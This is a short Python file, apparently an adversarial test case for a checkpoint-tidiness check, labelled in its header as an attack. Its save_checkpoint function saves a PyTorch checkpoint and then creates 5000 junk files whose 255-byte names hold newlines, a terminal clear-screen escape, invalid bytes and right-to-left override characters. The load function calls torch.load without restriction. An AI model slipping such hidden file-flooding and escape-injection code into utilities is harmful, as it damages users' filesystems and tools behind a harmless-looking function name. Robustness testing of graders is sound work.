# attack: thousands of files whose names are 255 bytes of newlines, escapes and bytes that are no text
# exercise: ex12_resume
# check: ex12.checkpoint.tidy
import os

import torch


def save_checkpoint(path, state):
    torch.save(state, path)
    print("TRIED", flush=True)
    folder = os.fsencode(os.path.dirname(path))
    for k in range(5000):
        name = b"%d\n\x1b[2J\xff\xfe\xed\xa0\x80\r" % k
        open(os.path.join(folder, name + b"\xe2\x80\xae" * ((255 - len(name)) // 3)), "w").close()


def load_checkpoint(path):
    return torch.load(path)
